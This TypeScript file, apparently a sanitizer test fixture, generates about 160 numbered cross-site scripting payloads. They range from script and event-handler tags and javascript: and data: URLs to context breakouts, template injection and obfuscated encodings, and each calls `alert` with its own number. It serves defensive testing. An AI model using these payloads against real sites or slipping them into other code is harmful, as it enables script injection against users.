/**
 * Ways to smuggle script into a page through text. Every one calls `alert` with its own number when it
 * runs, so that a test can say which one it was. Composed from the places markup can be broken out of
 * and the things that can be started there.
 */
const run = (number: number) => `alert(${number})`;

type Way = (call: string) => string;

const tags: Way[] = [
	(call) => `<script>${call}</script>`,
	(call) => `<SCRIPT type=module>${call}</SCRIPT >`,
	(call) => `<script\n>${call}</script\t>`,
	(call) => `<scr<script>ipt>${call}</scr</script>ipt>`,
	(call) => `<img src=x onerror=${call}>`,
	(call) => `<img src=x onerror="${call}"`,
	(call) => `<IMG SRC=x OnErRoR='${call}'//`,
	(call) => `<img/src=x/onerror=${call}>`,
	(call) => `<svg onload=${call}>`,
	(call) => `<svg><script>${call}</script></svg>`,
	(call) => `<svg><animate onbegin=${call} attributeName=x dur=1s>`,
	(call) => `<svg><a href="javascript:${call}"><text y=20>x</text></a></svg>`,
	(call) => `<svg><foreignObject><body onload=${call}></foreignObject></svg>`,
	(call) => `<svg><use href="data:image/svg+xml,<svg id=x onload=${call}/>#x"/></svg>`,
	(call) => `<math><mtext><table><mglyph><style><!--</style><img src=x onerror=${call}>`,
	(call) => `<math href="javascript:${call}">x</math>`,
	(call) => `<details open ontoggle=${call}>`,
	(call) => `<video src=x onerror=${call}>`,
	(call) => `<audio src=x onerror=${call}>`,
	(call) => `<video><source onerror=${call}></video>`,
	(call) => `<body onload=${call}>`,
	(call) => `<input autofocus onfocus=${call}>`,
	(call) => `<select autofocus onfocus=${call}>`,
	(call) => `<textarea autofocus onfocus=${call}>`,
	(call) => `<x tabindex=0 autofocus onfocus=${call}>`,
	(call) => `<marquee onstart=${call}>x</marquee>`,
	(call) => `<iframe srcdoc="<script>parent.${call}</script>"></iframe>`,
	(call) => `<iframe src="javascript:parent.${call}"></iframe>`,
	(call) => `<object data="javascript:${call}"></object>`,
	(call) => `<embed src="javascript:${call}">`,
	(call) => `<form action="javascript:${call}"><button autofocus>x</button></form>`,
	(call) => `<button formaction="javascript:${call}">x</button>`,
	(call) => `<a href="javascript:${call}">x</a>`,
	(call) => `<a href="jav&#x09;ascript:${call}">x</a>`,
	(call) => `<a href=" &#1; JaVaScRiPt:${call}">x</a>`,
	(call) => `<a href="data:text/html,<script>${call}</script>">x</a>`,
	(call) => `<meta http-equiv=refresh content="0;url=javascript:${call}">`,
	(call) => `<base href="javascript:${call}//">`,
	(call) => `<link rel=stylesheet href="data:text/css,*{}" onload=${call}>`,
	(call) => `<style onload=${call}>*{color:red}</style>`,
	(call) => `<style>@import 'data:text/css,*{}';</style><img src=x onerror=${call}>`,
	(call) => `<template><img src=x onerror=${call}></template>`,
	(call) => `<noscript><p title="</noscript><img src=x onerror=${call}>">`,
	(call) => `<!--><img src=x onerror=${call}>-->`,
	(call) => `<![CDATA[<img src=x onerror=${call}>]]>`,
	(call) =>
		`<?xml version="1.0"?><x:script xmlns:x="http://www.w3.org/1999/xhtml">${call}</x:script>`,
	(call) => `<div style="background:url(javascript:${call})">x</div>`,
	(call) => `<portal src="javascript:${call}">`,
	(call) => `<dialog open onclose=${call}><form method=dialog><button autofocus>x`,
];

/** Out of the place the text was put into, first. */
const breaks = [
	'"><',
	`'><`,
	'</textarea><',
	'</title><',
	'</pre><',
	'</script><',
	'--><',
	']]><',
	'</style><',
	'</option></select><',
];

const outside: Way[] = [
	(call) => `${'{{constructor.constructor("'}${call}${'")()}}'}`,
	(call) => '${' + call + '}',
	(call) => `";${call};//`,
	(call) => `';${call};//`,
	(call) => `\\";${call};//`,
	(call) => `\`;${call};//`,
	(call) => `</script><script>${call}//`,
	(call) => `\u2028${call}\u2029`,
	(call) => `" autofocus onfocus="${call}" x="`,
	(call) => `' autofocus onfocus='${call}' x='`,
	(call) => ` onfocus=${call} autofocus `,
	(call) => `javascript:${call}`,
	(call) => `JAVASCRIPT:/*"/*'/*\`/*--></script>*/${call}//`,
	(call) => `\u0001javascript:${call}`,
	(call) => `data:text/html;base64,${Buffer.from(`<script>${call}</script>`).toString('base64')}`,
	(call) => `vbscript:${call}`,
	(call) => `{"@context":"</script><script>${call}</script>"}`,
	(call) => `BEGIN:VEVENT\r\nDESCRIPTION:<img src=x onerror=${call}>\r\nEND:VEVENT`,
	(call) => `=HYPERLINK("javascript:${call}";"x")`,
	(call) => `[x](javascript:${call})`,
	(call) => `![x](x"onerror="${call})`,
	(call) => `<javascript:${call}>`,
	(call) => `&lt;script&gt;${call}&lt;/script&gt;`,
	(call) => `&#60;img src=x onerror=${call}&#62;`,
	(call) => `%3Cimg%20src=x%20onerror=${call}%3E`,
	(call) => `\\u003cimg src=x onerror=${call}\\u003e`,
	(call) => `\uff1cimg src=x onerror=${call}\uff1e`,
	(call) => `+ADw-script+AD4-${call}+ADw-/script+AD4-`,
	(call) => `<\u0000script>${call}</script>`,
	(call) => `<img src=x one\u0000rror=${call}>`,
	(call) => `<img src=x onerror=\u00a0${call}>`,
	(call) => `<\u202eimg src=x onerror=${call}>`,
];

/** What each break lets in: two tags in turn, so that all of them come to stand behind one. */
const broken: Way[] = breaks.flatMap((out, at) =>
	Array.from({ length: 8 }, (_, i): Way => {
		const tag = tags[(at * 8 + i) % tags.length] ?? ((call) => `<script>${call}</script>`);
		return (call) => `${out.slice(0, -1)}${tag(call)}`;
	}),
);

export interface Payload {
	number: number;
	text: string;
}

export const payloads: readonly Payload[] = [...tags, ...outside, ...broken].map((way, i) => ({
	number: 70_000 + i,
	text: way(run(70_000 + i)),
}));
